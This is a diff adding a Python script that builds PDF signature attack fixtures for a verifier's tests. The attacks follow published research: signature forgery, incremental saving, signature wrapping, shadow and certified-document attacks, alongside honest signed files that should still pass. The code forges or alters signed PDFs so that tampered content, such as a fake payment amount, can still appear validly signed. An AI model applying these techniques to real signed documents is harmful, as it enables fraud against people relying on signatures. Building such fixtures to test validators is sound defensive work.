@@ -1,0 +1,204 @@
+#!/usr/bin/env python3
+"""PDF signature attack fixtures, built from real pyHanko-signed files (run
+make_fixtures.py first), from the repository root:
+
+    python3 testdata/gen/make_attacks.py
+
+Writes testdata/pdf/attacks/*.pdf. Classes (after Mladenov et al., "1 Trillion
+Dollar Refund", CCS 2019, and Mainka et al., "Shadow Attacks", NDSS 2021 /
+"Certified PDF attacks", IEEE S&P 2021):
+
+- usf-*: Universal Signature Forgery — the signature dictionary's /Contents,
+  /ByteRange or /SubFilter missing, null or malformed;
+- isa-*: Incremental Saving Attack — a revision overriding the page content,
+  appended objects without cross-reference data, a new catalog;
+- swa-*: Signature Wrapping — the second ByteRange part moved, objects hidden
+  in the /Contents padding, overlapping ranges;
+- shadow-*: Shadow attacks — content prepared before signing, revealed after
+  (hide: an overlay emptied; replace: the xref pointed at a prepared copy of
+  the content object; hide-and-replace: a prepared page tree swapped in);
+- eaa-*: Evil Annotation — a FreeText annotation over certified content (P=3);
+- ssa-*: Sneaky Signature — a new visible signature over certified content (P=2);
+- honest-*: legitimate counterparts that must stay TOTAL_PASSED.
+"""
+import io
+import os
+import re
+import sys
+
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.sign import fields, signers
+
+sys.path.insert(0, os.path.dirname(__file__))
+from make_fixtures import PDF, minimal_pdf, signer_for, write  # noqa: E402
+
+OUT = f"{PDF}/attacks"
+
+
+def blank(data: bytes, span, rep=b"") -> bytes:
+    s, e = span
+    assert len(rep) <= e - s
+    return data[:s] + rep + b" " * (e - s - len(rep)) + data[e:]
+
+
+def last_startxref(data: bytes) -> int:
+    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+
+
+def append_update(data: bytes, objects: dict, root=None) -> bytes:
+    """An incremental update with the given {num: body} and a classic xref."""
+    size = int(re.findall(rb"/Size (\d+)", data)[-1])
+    root = root or re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
+    out = bytearray(data)
+    offs = {}
+    for num, body in sorted(objects.items()):
+        out += b"\n"
+        offs[num] = len(out)
+        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 1\n0000000000 65535 f \n"
+    for num in sorted(offs):
+        out += b"%d 1\n%010d 00000 n \n" % (num, offs[num])
+    size = max([size] + [n + 1 for n in offs])
+    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size, root, last_startxref(data), xref)
+    return bytes(out)
+
+
+def sign(data, stem="signer-rsa", field="Sig1", certify=None, visible=False):
+    w = IncrementalPdfFileWriter(io.BytesIO(data))
+    meta = signers.PdfSignatureMetadata(
+        field_name=field, subfilter=fields.SigSeedSubFilter.PADES,
+        certify=certify is not None, docmdp_permissions=certify or fields.MDPPerm.FILL_FORMS)
+    spec = fields.SigFieldSpec(field, box=(20, 700, 420, 800)) if visible else None
+    return signers.PdfSigner(meta, signer=signer_for(stem), new_field_spec=spec).sign_pdf(w).getvalue()
+
+
+def usf(signed: bytes):
+    c = re.search(rb"/Contents\s*<[0-9a-fA-F]*>", signed).span()
+    br = re.search(rb"/ByteRange\s*\[[^\]]*\]", signed).span()
+    sf = re.search(rb"/SubFilter\s*/[A-Za-z.]+", signed).span()
+    write(f"{OUT}/usf-no-contents.pdf", blank(signed, c))
+    write(f"{OUT}/usf-null-contents.pdf", blank(signed, c, b"/Contents null"))
+    write(f"{OUT}/usf-empty-contents.pdf", blank(signed, c, b"/Contents <>"))
+    write(f"{OUT}/usf-no-byterange.pdf", blank(signed, br))
+    write(f"{OUT}/usf-null-byterange.pdf", blank(signed, br, b"/ByteRange null"))
+    write(f"{OUT}/usf-byterange-three-numbers.pdf", blank(signed, br, b"/ByteRange [0 10 20]"))
+    write(f"{OUT}/usf-no-subfilter.pdf", blank(signed, sf))
+
+
+def isa(signed: bytes):
+    text = b"BT /F1 18 Tf 72 760 Td (Giay phep da bi SUA sau khi ky) Tj ET\n"
+    write(f"{OUT}/isa-page-content-overridden.pdf",
+          append_update(signed, {4: b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"}))
+    # Objects appended with no cross-reference data and no startxref.
+    write(f"{OUT}/isa-no-xref.pdf",
+          signed + b"\n4 0 obj\n<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream\nendobj\n")
+    # A new catalog in a new object, named by the update's trailer.
+    write(f"{OUT}/isa-new-root.pdf",
+          append_update(signed, {20: b"<< /Type /Catalog /Pages 2 0 R >>"}, root=b"20 0 R"))
+
+
+def swa(signed: bytes):
+    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\] *", signed)
+    a, b, c, d = (int(x) for x in m.groups())
+    # Move the second part: copy the signed tail to the end and point there.
+    tail = signed[c:c + d]
+    moved = len(signed) + 1
+    new_br = b"/ByteRange [%d %d %d %d]" % (a, b, moved, d)
+    attacked = blank(signed, m.span(), new_br) + b"\n" + tail
+    write(f"{OUT}/swa-second-part-moved.pdf", attacked)
+    # Overlapping ranges.
+    write(f"{OUT}/swa-overlapping-ranges.pdf", blank(signed, m.span(), b"/ByteRange [%d %d %d %d]" % (a, b + 10, c - 10, d + 10)))
+    # A PDF object hidden in the zero padding of /Contents.
+    cm = re.search(rb"/Contents\s*<([0-9a-fA-F]*)>", signed)
+    hexs = cm.group(1)
+    pad = len(hexs) - len(hexs.rstrip(b"0"))
+    hidden = b"3e3e0a656e646f626a0a"  # ">>\nendobj\n" as hex digits
+    assert pad > len(hidden) + 2
+    s = cm.start(1) + len(hexs) - pad + 2
+    write(f"{OUT}/swa-object-in-contents-padding.pdf", signed[:s] + hidden + signed[s + len(hidden):])
+
+
+def shadow():
+    # A document with prepared, unreferenced content (same object number 4,
+    # a second time, after the xref-listed one), and a prepared page tree.
+    base = minimal_pdf("Giay phep thu nghiem kyso")
+    evil = b"BT /F1 18 Tf 72 760 Td (Noi dung GIA duoc chuan bi truoc) Tj ET\n"
+    xref = base.rindex(b"\nxref") + 1
+    prep = b"4 0 obj\n<< /Length %d >>\nstream\n" % len(evil) + evil + b"\nendstream\nendobj\n"
+    prep += b"9 0 obj\n<< /Type /Pages /Kids [10 0 R] /Count 1 >>\nendobj\n"
+    prep += (b"10 0 obj\n<< /Type /Page /Parent 9 0 R /MediaBox [0 0 595 842] /Contents 11 0 R "
+             b"/Resources << /Font << /F1 5 0 R >> >> >>\nendobj\n")
+    prep += b"11 0 obj\n<< /Length %d >>\nstream\n" % len(evil) + evil + b"\nendstream\nendobj\n"
+    prepared_at = xref
+    doc = base[:xref] + prep + base[xref:]
+    # Fix the startxref after the insertion.
+    doc = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % (xref + len(prep)), doc)
+    write(f"{OUT}/shadow-prepared-unsigned.pdf", doc)
+    signed = sign(doc)
+    write(f"{OUT}/shadow-prepared-signed.pdf", signed)
+    # Replace: only a cross-reference section, pointing object 4 at the prepared copy.
+    out = bytearray(signed)
+    x = len(out)
+    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
+    root = re.findall(rb"/Root (\d+ \d+ R)", signed)[-1]
+    out += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n" % prepared_at
+    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size, root, last_startxref(signed), x)
+    write(f"{OUT}/shadow-replace-via-xref.pdf", bytes(out))
+    # Hide: the visible content emptied by an update.
+    write(f"{OUT}/shadow-hide-content-emptied.pdf",
+          append_update(signed, {4: b"<< /Length 0 >>\nstream\n\nendstream"}))
+    # Hide-and-replace: the page tree swapped for the prepared one.
+    cat = re.findall(rb"\n1 0 obj\s*(<<.*?>>)\s*endobj", signed, re.S)[-1]
+    write(f"{OUT}/shadow-hide-and-replace-page-tree.pdf",
+          append_update(signed, {1: cat.replace(b"/Pages 2 0 R", b"/Pages 9 0 R")}))
+
+
+def certified_attacks():
+    base = minimal_pdf("Van ban chung nhan")
+    p3 = sign(base, certify=fields.MDPPerm.ANNOTATE, field="Cert")
+    # Evil annotation: a FreeText annotation over the text.
+    w = IncrementalPdfFileWriter(io.BytesIO(p3))
+    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
+    page = page_ref.get_object()
+    annot = generic.DictionaryObject({
+        generic.NameObject("/Type"): generic.NameObject("/Annot"),
+        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
+        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (60, 740, 560, 800)]),
+        generic.NameObject("/Contents"): generic.TextStringObject("So tien: 999.000.000 VND"),
+        generic.NameObject("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
+        generic.NameObject("/P"): page_ref,
+    })
+    aref = w.add_object(annot)
+    annots = page.get("/Annots", generic.ArrayObject())
+    annots = generic.ArrayObject(list(annots) + [aref])
+    page[generic.NameObject("/Annots")] = annots
+    w.mark_update(page_ref)
+    out = io.BytesIO()
+    w.write(out)
+    write(f"{OUT}/eaa-freetext-over-certified-p3.pdf", out.getvalue())
+    # Sneaky signature: a new visible signature field after a P=2 certification.
+    p2 = sign(base, certify=fields.MDPPerm.FILL_FORMS, field="Cert")
+    write(f"{OUT}/ssa-visible-signature-after-certified-p2.pdf",
+          sign(p2, stem="signer-ec", field="Sneaky", visible=True))
+    # Honest: an invisible approval signature after P=2; a second honest signature.
+    write(f"{OUT}/honest-invisible-signature-after-certified-p2.pdf", sign(p2, stem="signer-ec", field="Approval"))
+    approval = sign(base)
+    write(f"{OUT}/honest-visible-second-signature.pdf", sign(approval, stem="signer-ec", field="Sig2", visible=True))
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    signed = open(f"{PDF}/rsa-pkcs1.pdf", "rb").read()
+    usf(signed)
+    isa(signed)
+    swa(signed)
+    shadow()
+    certified_attacks()
+
+
+if __name__ == "__main__":
+    main()
